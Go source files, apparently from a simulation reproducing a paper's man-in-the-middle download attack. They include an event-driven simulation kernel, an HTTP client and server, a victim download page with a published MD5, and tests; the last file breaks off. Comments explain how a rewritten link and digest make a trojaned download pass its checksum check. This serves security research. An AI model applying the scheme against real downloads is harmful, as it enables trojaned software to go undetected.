	// to shared simulation state: reads only, writes confined to state owned
	// by this event, no RNG draws, no scheduling, no digest mixes. fn decides
	// at commit time whether the prepared result is still valid.
	prep func()
	// cancelled events remain queued but are skipped when they surface.
	cancelled bool
	// pooled events came from the kernel freelist (Schedule/ScheduleAfter)
	// and are recycled after firing. Events whose *Event handle escapes to a
	// caller (At/After) are never pooled: the caller may hold the handle past
	// the fire and a recycled struct would alias a live timer.
	pooled bool
}

// When reports the virtual time at which the event is scheduled to fire.
func (e *Event) When() Time { return e.when }

// Cancel prevents the event from firing. Cancelling an already-fired or
// already-cancelled event is a no-op. Cancel is O(1); the event is lazily
// discarded when its wheel slot is loaded or it surfaces at a heap top.
func (e *Event) Cancel() {
	if e != nil {
		e.cancelled = true
		e.fn = nil // release closure for GC
	}
}

// Cancelled reports whether Cancel has been called on the event.
func (e *Event) Cancelled() bool { return e != nil && e.cancelled }

// Kernel is a discrete-event simulator instance: a virtual clock, a
// time-wheel event queue (see wheel.go), and a deterministic random source.
type Kernel struct {
	now Time
	// Scheduler tiers (wheel.go): cur is the imminent (when, seq) heap for
	// events at or before the cursor tick; slots/occ/wheelCount are the
	// fixed-resolution wheel for the near-future window; overflow is the
	// far-future heap that drains into the wheel as the cursor advances.
	cur        []*Event
	slots      [][]*Event
	occ        [occWords]uint64
	wheelCount int
	cursor     int64
	overflow   []*Event

	seq     uint64
	rng     *RNG
	stopped bool
	// Stats
	fired uint64
	// Tracer, if non-nil, receives a line for each significant kernel action.
	Tracer Tracer
	// digest is the streaming trace hash (see digest.go).
	digest traceDigest
	// invariants are the registered per-event-boundary checks (invariant.go);
	// they run after each fired event only when checkInvariants is set.
	invariants      []invariant
	checkInvariants bool
	// OnViolation, if non-nil, receives invariant violations instead of the
	// default panic. Tests install it to report violations as failures.
	OnViolation func(*InvariantViolation)
	// freeEvents is the freelist for pooled (handle-less) events. Plain LIFO,
	// no sync.Pool: the kernel is single-goroutine and reuse order must be a
	// pure function of the event sequence.
	freeEvents []*Event
	// eventAllocs/eventReuses count freelist traffic (tests, diagnostics).
	eventAllocs uint64
	eventReuses uint64
	// bufPool recycles packet buffers for every layer running on this kernel.
	bufPool *pkt.Pool
	// workers selects the execution mode (SetWorkers): 0 runs the classic
	// serial loop; n >= 1 runs the conservative-window loop (lanes.go) with n
	// prepare lanes (n-1 goroutines plus the main goroutine).
	workers int
	// lookahead is the conservative window width: the minimum delay between
	// scheduling a preparable event and its fire time, set by the medium to
	// the minimum airtime (SetLookahead). Purely a performance knob — commit
	// validity never depends on it.
	lookahead Time
	// prepBatch is the scratch list of prepare-bearing events collected for
	// the current window (windowed loop only).
	prepBatch []*Event
	// pool is the prepare worker pool, live only inside a windowed
	// Run/RunUntil call so idle kernels hold no goroutines.
	pool *prepPool
}

// NewKernel returns a kernel at t=0 whose random source is seeded with seed.
func NewKernel(seed uint64) *Kernel {
	// The wheel slot table (slots) is allocated lazily on the first
	// near-future insert (wheel.go): experiment sweeps build thousands of
	// short-lived kernels, and the table is the largest single-shot
	// allocation a kernel makes.
	return &Kernel{
		rng:     NewRNG(seed),
		digest:  newTraceDigest(),
		bufPool: pkt.NewPool(),
	}
}

// BufPool returns the kernel's packet-buffer pool. Every layer running on
// this kernel draws frame buffers from here so they recycle across hops.
func (k *Kernel) BufPool() *pkt.Pool { return k.bufPool }

// BeginDelivery opens a delivery barrier: until the matching EndDelivery,
// packet buffers released by any layer are parked in the pool's arena and
// recycled together when the barrier closes. The phy wraps each
// transmission's receiver fan-out in one, so a buffer view handed to many
// receivers in the same completion event cannot be recycled — and its bytes
// overwritten — while later receivers in the fan-out still read it.
// Barriers nest; only the outermost EndDelivery flushes the arena.
func (k *Kernel) BeginDelivery() { k.bufPool.BeginBatch() }

// EndDelivery closes the innermost delivery barrier.
func (k *Kernel) EndDelivery() { k.bufPool.EndBatch() }

// Now reports the current virtual time.
func (k *Kernel) Now() Time { return k.now }

// RNG returns the kernel's deterministic random source.
func (k *Kernel) RNG() *RNG { return k.rng }

// Fired reports how many events have been executed so far.
func (k *Kernel) Fired() uint64 { return k.fired }

// Pending reports how many events are queued (including cancelled ones that
// have not yet been discarded).
func (k *Kernel) Pending() int { return len(k.cur) + k.wheelCount + len(k.overflow) }

// At schedules fn to run at absolute virtual time t. Scheduling in the past
// (t < Now) panics: it would violate causality and always indicates a bug in
// protocol code.
func (k *Kernel) At(t Time, fn func()) *Event {
	if t < k.now {
		panic(fmt.Sprintf("sim: scheduling into the past: now=%v t=%v", k.now, t))
	}
	if fn == nil {
		panic("sim: nil event function")
	}
	e := &Event{when: t, seq: k.seq, fn: fn}
	k.seq++
	k.insert(e)
	return e
}

// After schedules fn to run d after the current time.
func (k *Kernel) After(d Time, fn func()) *Event {
	if d < 0 {
		panic(fmt.Sprintf("sim: negative delay %v", d))
	}
	return k.At(k.now+d, fn)
}

// Schedule is the handle-less, pooled variant of At: the Event struct comes
// from the kernel's freelist and returns to it right after fn fires, so
// fire-and-forget call sites (frame deliveries, transmit completions) stop
// allocating an Event per packet. Because the struct is recycled, Schedule
// returns nothing — use At when the caller needs to Cancel.
func (k *Kernel) Schedule(t Time, fn func()) {
	if t < k.now {
		panic(fmt.Sprintf("sim: scheduling into the past: now=%v t=%v", k.now, t))
	}
	if fn == nil {
		panic("sim: nil event function")
	}
	e := k.getEvent()
	e.when = t
	e.seq = k.seq
	e.fn = fn
	e.pooled = true
	k.seq++
	k.insert(e)
}

// ScheduleAfter is the handle-less, pooled variant of After.
func (k *Kernel) ScheduleAfter(d Time, fn func()) {
	if d < 0 {
		panic(fmt.Sprintf("sim: negative delay %v", d))
	}
	k.Schedule(k.now+d, fn)
}

// SchedulePrep is Schedule with a speculative prepare hook. Under the serial
// loop prep is simply never called; under the conservative-window loop
// (SetWorkers >= 1) the kernel may run prep — on any prepare lane — at any
// point before fn fires, or not at all. See Event.prep for the purity
// contract; fn must validate the prepared result before consuming it.
func (k *Kernel) SchedulePrep(t Time, fn, prep func()) {
	if t < k.now {
		panic(fmt.Sprintf("sim: scheduling into the past: now=%v t=%v", k.now, t))
	}
	if fn == nil {
		panic("sim: nil event function")
	}
	e := k.getEvent()
	e.when = t
	e.seq = k.seq
	e.fn = fn
	e.prep = prep
	e.pooled = true
	k.seq++
	k.insert(e)
}

// SetWorkers selects the kernel's execution mode. 0 (the default) is the
// classic serial event loop. n >= 1 enables the conservative-window loop
// (lanes.go): events still *commit* one at a time on the calling goroutine in
// exact (when, seq) order — trace digests are byte-identical to the serial
// loop at any GOMAXPROCS — but prepare hooks (SchedulePrep) for events inside
// the lookahead window run ahead of time across n lanes: inline on the main
// goroutine when n == 1, on n-1 worker goroutines plus the main goroutine
// when n >= 2. Must not be called while Run/RunUntil is executing.
func (k *Kernel) SetWorkers(n int) {
	if n < 0 {
		n = 0
	}
	k.workers = n
}

// Workers reports the configured worker count (see SetWorkers).
func (k *Kernel) Workers() int { return k.workers }

// SetLookahead sets the conservative window width: the guaranteed minimum
// delay between scheduling a preparable event and its fire time. The medium
// sets it to the minimum frame airtime, so completions scheduled by sends
// inside a window always land beyond the window's horizon and are preparable
// in a later window. Wider lookahead batches more prepares per barrier;
// correctness never depends on the value.
func (k *Kernel) SetLookahead(d Time) {
	if d < 0 {
		d = 0
	}
	k.lookahead = d
}

// Lookahead reports the configured conservative window width.
func (k *Kernel) Lookahead() Time { return k.lookahead }

// getEvent takes an Event from the freelist, or allocates one.
func (k *Kernel) getEvent() *Event {
	if n := len(k.freeEvents); n > 0 {
		e := k.freeEvents[n-1]
		k.freeEvents[n-1] = nil
		k.freeEvents = k.freeEvents[:n-1]
		k.eventReuses++
		return e
	}
	k.eventAllocs++
	return &Event{}
}

// EventAllocs reports how many pooled events were freshly allocated.
func (k *Kernel) EventAllocs() uint64 { return k.eventAllocs }

// EventReuses reports how many pooled events were served from the freelist.
func (k *Kernel) EventReuses() uint64 { return k.eventReuses }

// Stop halts Run/RunUntil after the currently executing event returns, and
// drains the event queue in O(pending): remaining events are dropped (their
// closures released for GC) and pooled ones are recycled into the freelist.
// A stopped kernel never runs again, so a kernel with thousands of queued
// events stops promptly instead of popping each one through the scheduler.
func (k *Kernel) Stop() {
	k.stopped = true
	k.drainQueue()
}

// Stopped reports whether Stop has been called.
func (k *Kernel) Stopped() bool { return k.stopped }

// step executes the next pending event, advancing the clock to its timestamp.
// It reports false when the queue is empty.
func (k *Kernel) step() bool {
	e := k.nextEvent()
	if e == nil {
		return false
	}
	if e.when < k.now {
		panic("sim: event queue time went backwards")
	}
	k.now = e.when
	fn := e.fn
	e.fn = nil
	k.fired++
	k.mixEvent(e)
	fn()
	if e.pooled {
		// Recycle after fn returns: nothing holds a handle to a pooled
		// event, so the struct can be reissued by the next Schedule.
		*e = Event{}
		k.freeEvents = append(k.freeEvents, e)
	}
	if k.checkInvariants {
		k.runInvariants()
	}
	return true
}

// Run executes events until the queue drains or Stop is called, and reports
// the number of events fired.
func (k *Kernel) Run() uint64 {
	start := k.fired
	if k.workers > 0 {
		k.runWindowed(MaxTime)
		return k.fired - start
	}
	for !k.stopped && k.step() {
	}
	return k.fired - start
}

// RunUntil executes events with timestamps <= deadline, leaving later events
// queued, and advances the clock to exactly deadline. It reports the number
// of events fired.
func (k *Kernel) RunUntil(deadline Time) uint64 {
	if deadline < k.now {
		panic(fmt.Sprintf("sim: RunUntil into the past: now=%v deadline=%v", k.now, deadline))
	}
	start := k.fired
	if k.workers > 0 {
		k.runWindowed(deadline)
	} else {
		for !k.stopped {
			next, ok := k.peekWhen()
			if !ok || next > deadline {
				break
			}
			k.step()
		}
	}
	if k.now < deadline {
		k.now = deadline
	}
	return k.fired - start
}

// RunFor executes events for a span d of virtual time starting now.
func (k *Kernel) RunFor(d Time) uint64 { return k.RunUntil(k.now + d) }

// Tracer receives human-readable trace lines from the kernel and from
// protocol modules that choose to log. A nil Tracer is silent.
type Tracer interface {
	Trace(t Time, component, format string, args ...any)
}

// Tracef logs through the kernel's tracer, if any.
func (k *Kernel) Tracef(component, format string, args ...any) {
	if k.Tracer != nil {
		k.Tracer.Trace(k.now, component, format, args...)
	}
}

// WriterTracer adapts an io.Writer-style print function into a Tracer.
type FuncTracer func(t Time, component, format string, args ...any)

// Trace implements Tracer.
func (f FuncTracer) Trace(t Time, component, format string, args ...any) {
	f(t, component, format, args...)
}
