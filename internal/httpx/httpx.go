// Package httpx is a minimal HTTP/1.1 implementation over the simulated TCP
// stack (the standard library's net/http cannot run on a virtual-time
// event-driven transport). It provides just what the reproduction needs: a
// server with a path mux serving the paper's software-download site, and a
// client that fetches pages and files — the victim's browser and wget.
//
// Connections are one-request ("Connection: close"), matching the
// 2003-era download scenario in the paper.
package httpx

import (
	"bytes"
	"errors"
	"fmt"
	"sort"
	"strconv"
	"strings"

	"repro/internal/inet"
	"repro/internal/tcp"
)

// Request is a parsed HTTP request.
type Request struct {
	Method  string
	Path    string
	Proto   string
	Headers map[string]string
	Body    []byte
	// Remote is the client's address.
	Remote inet.HostPort
}

// Response is an HTTP response under construction or as parsed.
type Response struct {
	Status  int
	Reason  string
	Headers map[string]string
	Body    []byte
}

// NewResponse builds a response with standard reason text.
func NewResponse(status int, contentType string, body []byte) *Response {
	return &Response{
		Status: status,
		Reason: reasonFor(status),
		Headers: map[string]string{
			"Content-Type": contentType,
		},
		Body: body,
	}
}

func reasonFor(status int) string {
	switch status {
	case 200:
		return "OK"
	case 404:
		return "Not Found"
	case 500:
		return "Internal Server Error"
	default:
		return "Unknown"
	}
}

// marshal serialises the response with Content-Length and close semantics.
// Headers are emitted in sorted order: map iteration order would put
// different bytes on the wire run to run, which breaks trace-digest
// determinism (and did, before sim.Kernel.Digest existed to catch it).
func (r *Response) marshal() []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "HTTP/1.1 %d %s\r\n", r.Status, r.Reason)
	fmt.Fprintf(&b, "Content-Length: %d\r\n", len(r.Body))
	fmt.Fprintf(&b, "Connection: close\r\n")
	keys := make([]string, 0, len(r.Headers))
	for k := range r.Headers {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Fprintf(&b, "%s: %s\r\n", k, r.Headers[k])
	}
	b.WriteString("\r\n")
	b.Write(r.Body)
	return b.Bytes()
}

// Handler produces a response for a request.
type Handler func(req *Request) *Response

// Server is a mux-based HTTP server on a simulated TCP stack.
type Server struct {
	tcpStack *tcp.Stack
	mux      map[string]Handler
	fallback Handler

	// Requests counts served requests.
	Requests uint64
}

// NewServer creates a server; call Handle/HandleFunc then Start.
func NewServer(t *tcp.Stack) *Server {
	return &Server{tcpStack: t, mux: make(map[string]Handler)}
}

// Handle registers a handler for an exact path.
func (s *Server) Handle(path string, h Handler) { s.mux[path] = h }

// HandleFallback registers the handler for unmatched paths (default 404).
func (s *Server) HandleFallback(h Handler) { s.fallback = h }

// Start listens on port.
func (s *Server) Start(port inet.Port) error {
	l, err := s.tcpStack.Listen(port)
	if err != nil {
		return err
	}
	l.OnAccept = s.onAccept
	return nil
}

func (s *Server) onAccept(c *tcp.Conn) {
	var buf []byte
	handled := false
	c.OnData = func(b []byte) {
		if handled {
			return
		}
		buf = append(buf, b...)
		req, rest, ok, err := parseRequest(buf)
		if err != nil {
			c.Abort()
			return
		}
		if !ok {
			return
		}
		_ = rest
		handled = true
		req.Remote = c.RemoteAddr()
		s.Requests++
		h := s.mux[req.Path]
		if h == nil {
			h = s.fallback
		}
		var resp *Response
		if h == nil {
			resp = NewResponse(404, "text/plain", []byte("not found\n"))
		} else {
			resp = h(req)
			if resp == nil {
				resp = NewResponse(500, "text/plain", []byte("handler returned nil\n"))
			}
		}
		_ = c.Write(resp.marshal())
		c.Close()
	}
}

// parseRequest attempts to parse a complete request from buf. ok=false means
// more data is needed.
func parseRequest(buf []byte) (req *Request, rest []byte, ok bool, err error) {
	head, body, found := bytes.Cut(buf, []byte("\r\n\r\n"))
	if !found {
		if len(buf) > 64*1024 {
			return nil, nil, false, errors.New("httpx: header too large")
		}
		return nil, nil, false, nil
	}
	lines := strings.Split(string(head), "\r\n")
	if len(lines) == 0 {
		return nil, nil, false, errors.New("httpx: empty request")
	}
	parts := strings.SplitN(lines[0], " ", 3)
	if len(parts) != 3 {
		return nil, nil, false, fmt.Errorf("httpx: bad request line %q", lines[0])
	}
	r := &Request{
		Method:  parts[0],
		Path:    parts[1],
		Proto:   parts[2],
		Headers: make(map[string]string),
	}
	for _, line := range lines[1:] {
		k, v, found := strings.Cut(line, ":")
		if !found {
			return nil, nil, false, fmt.Errorf("httpx: bad header %q", line)
		}
		r.Headers[strings.ToLower(strings.TrimSpace(k))] = strings.TrimSpace(v)
	}
	n := 0
	if cl, okH := r.Headers["content-length"]; okH {
		n, err = strconv.Atoi(cl)
		if err != nil || n < 0 {
			return nil, nil, false, errors.New("httpx: bad content-length")
		}
	}
	if len(body) < n {
		return nil, nil, false, nil
	}
	r.Body = body[:n]
	return r, body[n:], true, nil
}

// parseResponse parses a complete response (headers plus content-length
// body). ok=false means incomplete.
func parseResponse(buf []byte) (resp *Response, ok bool, err error) {
	head, body, found := bytes.Cut(buf, []byte("\r\n\r\n"))
	if !found {
		return nil, false, nil
	}
	lines := strings.Split(string(head), "\r\n")
	parts := strings.SplitN(lines[0], " ", 3)
	if len(parts) < 2 || !strings.HasPrefix(parts[0], "HTTP/") {
		return nil, false, fmt.Errorf("httpx: bad status line %q", lines[0])
	}
	status, err := strconv.Atoi(parts[1])
	if err != nil {
		return nil, false, fmt.Errorf("httpx: bad status %q", parts[1])
	}
	r := &Response{Status: status, Headers: make(map[string]string)}
	if len(parts) == 3 {
		r.Reason = parts[2]
	}
	for _, line := range lines[1:] {
		k, v, found := strings.Cut(line, ":")
		if !found {
			continue
		}
		r.Headers[strings.ToLower(strings.TrimSpace(k))] = strings.TrimSpace(v)
	}
	n := -1
	if cl, okH := r.Headers["content-length"]; okH {
		n, err = strconv.Atoi(cl)
		if err != nil || n < 0 {
			return nil, false, errors.New("httpx: bad content-length")
		}
	}
	if n >= 0 {
		if len(body) < n {
			return nil, false, nil
		}
		r.Body = body[:n]
		return r, true, nil
	}
	// No content length: close-delimited; caller must wait for EOF.
	r.Body = body
	return r, false, nil
}

// Client issues HTTP requests over a simulated TCP stack.
type Client struct {
	tcpStack *tcp.Stack
}

// NewClient creates a client.
func NewClient(t *tcp.Stack) *Client { return &Client{tcpStack: t} }

// Result is a completed fetch.
type Result struct {
	Response *Response
	Err      error
}

// Get fetches http://<dst><path>, invoking done exactly once.
func (c *Client) Get(dst inet.HostPort, path string, done func(Result)) {
	c.Do(dst, "GET", path, nil, done)
}

// Do issues a request with an optional body.
func (c *Client) Do(dst inet.HostPort, method, path string, body []byte, done func(Result)) {
	conn, err := c.tcpStack.Dial(dst)
	if err != nil {
		done(Result{Err: err})
		return
	}
	finished := false
	finish := func(r Result) {
		if finished {
			return
		}
		finished = true
		done(r)
	}
	var buf []byte
	complete := false

	conn.OnConnect = func() {
		var b bytes.Buffer
		fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", method, path)
		fmt.Fprintf(&b, "Host: %s\r\n", dst)
		fmt.Fprintf(&b, "User-Agent: repro-httpx/1.0\r\n")
		fmt.Fprintf(&b, "Connection: close\r\n")
		if body != nil {
			fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
		}
		b.WriteString("\r\n")
		b.Write(body)
		if err := conn.Write(b.Bytes()); err != nil {
			finish(Result{Err: err})
			conn.Abort()
		}
	}
	tryParse := func(atEOF bool) {
		resp, ok, err := parseResponse(buf)
		if err != nil {
			finish(Result{Err: err})
			conn.Abort()
			return
		}
		if ok || (atEOF && resp != nil) {
			complete = true
			finish(Result{Response: resp})
			conn.Close()
		} else if atEOF {
			finish(Result{Err: errors.New("httpx: connection closed before response")})
		}
	}
	conn.OnData = func(b []byte) {
		if complete {
			return
		}
		buf = append(buf, b...)
		tryParse(false)
	}
	conn.OnEOF = func() {
		if !complete {
			tryParse(true)
		}
	}
	conn.OnClose = func(err error) {
		if !complete {
			if err == nil {
				err = errors.New("httpx: connection closed before response")
			}
			finish(Result{Err: err})
		}
	}
}
