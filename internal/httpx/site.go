package httpx

import (
	"crypto/md5"
	"fmt"
	"regexp"
)

// DownloadSite generates the paper's target: a software-download page with a
// link to a tarball and its published MD5 sum, "intended to verify that
// package was downloaded properly" (§4.1).
type DownloadSite struct {
	// FileName is the advertised artifact (the paper's file.tgz).
	FileName string
	// Contents is the genuine file body.
	Contents []byte
}

// MD5Hex returns the published checksum of the genuine file.
func (d *DownloadSite) MD5Hex() string {
	sum := md5.Sum(d.Contents)
	return fmt.Sprintf("%x", sum)
}

// PageHTML renders the download page.
func (d *DownloadSite) PageHTML() []byte {
	// The footer matters to the reproduction: netsed's link rewrite grows
	// the body past the Content-Length header, so the victim's client
	// truncates the tail. Real download pages have trailing boilerplate
	// that absorbs the cut; without it the truncation would eat the MD5SUM
	// line and give the attack away.
	return []byte(fmt.Sprintf(
		"<html><head><title>Download %s</title></head><body>\n"+
			"<h1>Download</h1>\n"+
			"<p><a href=%s>%s</a></p>\n"+
			"<p>MD5SUM: %s</p>\n"+
			"<p>Thank you for using our mirror. Please verify your download.</p>\n"+
			"</body></html>\n",
		d.FileName, d.FileName, d.FileName, d.MD5Hex()))
}

// Install registers the page and the file on a server.
func (d *DownloadSite) Install(s *Server) {
	s.Handle("/", func(req *Request) *Response {
		return NewResponse(200, "text/html", d.PageHTML())
	})
	s.Handle("/"+d.FileName, func(req *Request) *Response {
		return NewResponse(200, "application/octet-stream", d.Contents)
	})
}

var (
	hrefRE = regexp.MustCompile(`href=([^ >"']+)`)
	md5RE  = regexp.MustCompile(`MD5SUM: ([0-9a-f]{32})`)
)

// ParseDownloadPage extracts the link target and published MD5 from a
// download page — the victim reading the page.
func ParseDownloadPage(html []byte) (href, md5hex string, err error) {
	h := hrefRE.FindSubmatch(html)
	if h == nil {
		return "", "", fmt.Errorf("httpx: no href on page")
	}
	m := md5RE.FindSubmatch(html)
	if m == nil {
		return "", "", fmt.Errorf("httpx: no MD5SUM on page")
	}
	return string(h[1]), string(m[1]), nil
}

// MD5Matches checks a downloaded body against a published hex digest — the
// victim running md5sum. The attack's punchline is that this check passes
// on the trojaned file because the page's digest was rewritten too.
func MD5Matches(body []byte, md5hex string) bool {
	sum := md5.Sum(body)
	return fmt.Sprintf("%x", sum) == md5hex
}
