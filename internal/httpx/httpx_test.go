package httpx

import (
	"bytes"
	"strings"
	"testing"
	"testing/quick"

	"repro/internal/ethernet"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
	"repro/internal/tcp"
)

// web is a client host and a server host on one switch.
type web struct {
	k      *sim.Kernel
	client *Client
	server *Server
	ctcp   *tcp.Stack
}

var serverHP = inet.MustParseHostPort("10.0.0.2:80")

func newWeb(t *testing.T) *web {
	t.Helper()
	k := sim.NewKernel(1)
	var alloc ethernet.MACAllocator
	sw := ethernet.NewSwitch(k, &alloc, ethernet.SwitchConfig{})
	prefix := inet.MustParsePrefix("10.0.0.0/24")
	ipC := ipv4.NewStack(k, "client")
	ipC.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr("10.0.0.1"), prefix)
	ipS := ipv4.NewStack(k, "server")
	ipS.AddIface("eth0", sw.Attach(alloc.Next()), inet.MustParseAddr("10.0.0.2"), prefix)
	ctcp := tcp.NewStack(ipC)
	stcp := tcp.NewStack(ipS)
	srv := NewServer(stcp)
	if err := srv.Start(80); err != nil {
		t.Fatal(err)
	}
	return &web{k: k, client: NewClient(ctcp), server: srv, ctcp: ctcp}
}

func TestGetOK(t *testing.T) {
	w := newWeb(t)
	w.server.Handle("/hello", func(req *Request) *Response {
		if req.Method != "GET" {
			t.Errorf("method %q", req.Method)
		}
		return NewResponse(200, "text/plain", []byte("hi there"))
	})
	var res Result
	w.client.Get(serverHP, "/hello", func(r Result) { res = r })
	w.k.RunUntil(10 * sim.Second)
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	if res.Response.Status != 200 || string(res.Response.Body) != "hi there" {
		t.Fatalf("resp %+v", res.Response)
	}
}

func TestNotFound(t *testing.T) {
	w := newWeb(t)
	var res Result
	w.client.Get(serverHP, "/missing", func(r Result) { res = r })
	w.k.RunUntil(10 * sim.Second)
	if res.Err != nil || res.Response.Status != 404 {
		t.Fatalf("res %+v err %v", res.Response, res.Err)
	}
}

func TestFallbackHandler(t *testing.T) {
	w := newWeb(t)
	w.server.HandleFallback(func(req *Request) *Response {
		return NewResponse(200, "text/plain", []byte("fallback:"+req.Path))
	})
	var res Result
	w.client.Get(serverHP, "/anything", func(r Result) { res = r })
	w.k.RunUntil(10 * sim.Second)
	if res.Err != nil || string(res.Response.Body) != "fallback:/anything" {
		t.Fatalf("res %+v err %v", res.Response, res.Err)
	}
}

func TestPostBody(t *testing.T) {
	w := newWeb(t)
	w.server.Handle("/submit", func(req *Request) *Response {
		return NewResponse(200, "text/plain", append([]byte("got:"), req.Body...))
	})
	var res Result
	w.client.Do(serverHP, "POST", "/submit", []byte("form data"), func(r Result) { res = r })
	w.k.RunUntil(10 * sim.Second)
	if res.Err != nil || string(res.Response.Body) != "got:form data" {
		t.Fatalf("res %+v err %v", res.Response, res.Err)
	}
}

func TestLargeBody(t *testing.T) {
	w := newWeb(t)
	big := make([]byte, 300_000)
	for i := range big {
		big[i] = byte(i * 13)
	}
	w.server.Handle("/big", func(req *Request) *Response {
		return NewResponse(200, "application/octet-stream", big)
	})
	var res Result
	w.client.Get(serverHP, "/big", func(r Result) { res = r })
	w.k.RunUntil(sim.Minute)
	if res.Err != nil {
		t.Fatal(res.Err)
	}
	if !bytes.Equal(res.Response.Body, big) {
		t.Fatalf("body mismatch: %d/%d bytes", len(res.Response.Body), len(big))
	}
}

func TestConnectionRefusedSurfaces(t *testing.T) {
	w := newWeb(t)
	var res Result
	w.client.Get(inet.MustParseHostPort("10.0.0.2:81"), "/", func(r Result) { res = r })
	w.k.RunUntil(10 * sim.Second)
	if res.Err == nil {
		t.Fatal("no error for refused connection")
	}
}

func TestUnreachableHostTimesOut(t *testing.T) {
	w := newWeb(t)
	var res Result
	w.client.Get(inet.MustParseHostPort("10.0.0.99:80"), "/", func(r Result) { res = r })
	w.k.RunUntil(3 * sim.Minute)
	if res.Err == nil {
		t.Fatal("no error for unreachable host")
	}
}

func TestParseRequestIncremental(t *testing.T) {
	full := []byte("GET /x HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n\r\nabc")
	for i := 0; i < len(full); i++ {
		_, _, ok, err := parseRequest(full[:i])
		if err != nil {
			t.Fatalf("prefix %d: %v", i, err)
		}
		if ok {
			t.Fatalf("prefix %d parsed as complete", i)
		}
	}
	req, rest, ok, err := parseRequest(full)
	if err != nil || !ok {
		t.Fatalf("full parse: ok=%v err=%v", ok, err)
	}
	if req.Method != "GET" || req.Path != "/x" || string(req.Body) != "abc" || len(rest) != 0 {
		t.Fatalf("req %+v", req)
	}
}

func TestParseRequestRejectsGarbage(t *testing.T) {
	if _, _, _, err := parseRequest([]byte("NONSENSE\r\n\r\n")); err == nil {
		t.Fatal("bad request line accepted")
	}
	if _, _, _, err := parseRequest([]byte("GET / HTTP/1.1\r\nBadHeader\r\n\r\n")); err == nil {
		t.Fatal("bad header accepted")
	}
}

func TestParseResponseContentLength(t *testing.T) {
	raw := []byte("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello")
	resp, ok, err := parseResponse(raw)
	if err != nil || !ok || resp.Status != 200 || string(resp.Body) != "hello" {
		t.Fatalf("resp=%+v ok=%v err=%v", resp, ok, err)
	}
	// Incomplete body.
	_, ok, err = parseResponse(raw[:len(raw)-1])
	if err != nil || ok {
		t.Fatal("incomplete body parsed as complete")
	}
}

func TestDownloadSiteRoundTrip(t *testing.T) {
	w := newWeb(t)
	site := &DownloadSite{FileName: "file.tgz", Contents: []byte("genuine software v1.0")}
	site.Install(w.server)

	var page Result
	w.client.Get(serverHP, "/", func(r Result) { page = r })
	w.k.RunUntil(10 * sim.Second)
	if page.Err != nil {
		t.Fatal(page.Err)
	}
	href, md5hex, err := ParseDownloadPage(page.Response.Body)
	if err != nil {
		t.Fatal(err)
	}
	if href != "file.tgz" {
		t.Fatalf("href %q", href)
	}
	var file Result
	w.client.Get(serverHP, "/"+href, func(r Result) { file = r })
	w.k.RunUntil(w.k.Now() + 10*sim.Second)
	if file.Err != nil {
		t.Fatal(file.Err)
	}
	if !MD5Matches(file.Response.Body, md5hex) {
		t.Fatal("genuine download failed md5 check")
	}
	if string(file.Response.Body) != "genuine software v1.0" {
		t.Fatalf("body %q", file.Response.Body)
	}
}

func TestParseDownloadPageErrors(t *testing.T) {
	if _, _, err := ParseDownloadPage([]byte("<html>nothing</html>")); err == nil {
		t.Fatal("no href: accepted")
	}
	if _, _, err := ParseDownloadPage([]byte("href=x.tgz but no sum")); err == nil {
		t.Fatal("no md5: accepted")
	}
}

func TestMD5Matches(t *testing.T) {
	site := &DownloadSite{FileName: "f", Contents: []byte("data")}
	if !MD5Matches([]byte("data"), site.MD5Hex()) {
		t.Fatal("matching digest rejected")
	}
	if MD5Matches([]byte("tampered"), site.MD5Hex()) {
		t.Fatal("wrong digest accepted")
	}
	if !strings.EqualFold(site.MD5Hex(), site.MD5Hex()) || len(site.MD5Hex()) != 32 {
		t.Fatal("digest format")
	}
}

func TestConcurrentRequests(t *testing.T) {
	w := newWeb(t)
	w.server.Handle("/n", func(req *Request) *Response {
		return NewResponse(200, "text/plain", []byte("ok"))
	})
	done := 0
	for i := 0; i < 10; i++ {
		w.client.Get(serverHP, "/n", func(r Result) {
			if r.Err == nil && r.Response.Status == 200 {
				done++
			}
		})
	}
	w.k.RunUntil(30 * sim.Second)
	if done != 10 {
		t.Fatalf("completed %d/10", done)
	}
	if w.server.Requests != 10 {
		t.Fatalf("server saw %d requests", w.server.Requests)
	}
}

// HTTP parsers must never panic on arbitrary bytes from the network.
func TestQuickHTTPParsersNoPanic(t *testing.T) {
	f := func(b []byte) bool {
		_, _, _, _ = parseRequest(b)
		_, _, _ = parseResponse(b)
		_, _, _ = ParseDownloadPage(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 1000}); err != nil {
		t.Fatal(err)
	}
}
