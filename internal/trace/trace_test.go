package trace

import (
	"bytes"
	"encoding/binary"
	"testing"
	"testing/quick"

	"repro/internal/dot11"
	"repro/internal/ethernet"
	"repro/internal/httpx"
	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/phy"
	"repro/internal/sim"
	"repro/internal/tcp"
)

func TestCaptureRing(t *testing.T) {
	c := NewCapture(3)
	for i := 0; i < 5; i++ {
		c.Add(sim.Time(i), []byte{byte(i)})
	}
	recs := c.Records()
	if len(recs) != 3 || c.Total != 5 {
		t.Fatalf("len=%d total=%d", len(recs), c.Total)
	}
	// Oldest surviving is packet 2.
	for i, r := range recs {
		if r.Raw[0] != byte(i+2) {
			t.Fatalf("ring order: %v", recs)
		}
	}
}

func TestCaptureCopiesData(t *testing.T) {
	c := NewCapture(4)
	buf := []byte{1, 2, 3}
	c.Add(0, buf)
	buf[0] = 99
	if c.Records()[0].Raw[0] != 1 {
		t.Fatal("capture aliases caller buffer")
	}
}

// mkSegment builds a raw IPv4+TCP packet.
func mkSegment(src, dst inet.HostPort, seq uint32, flags byte, payload []byte) []byte {
	seg := make([]byte, 20+len(payload))
	binary.BigEndian.PutUint16(seg[0:2], uint16(src.Port))
	binary.BigEndian.PutUint16(seg[2:4], uint16(dst.Port))
	binary.BigEndian.PutUint32(seg[4:8], seq)
	seg[12] = 5 << 4
	seg[13] = flags
	copy(seg[20:], payload)
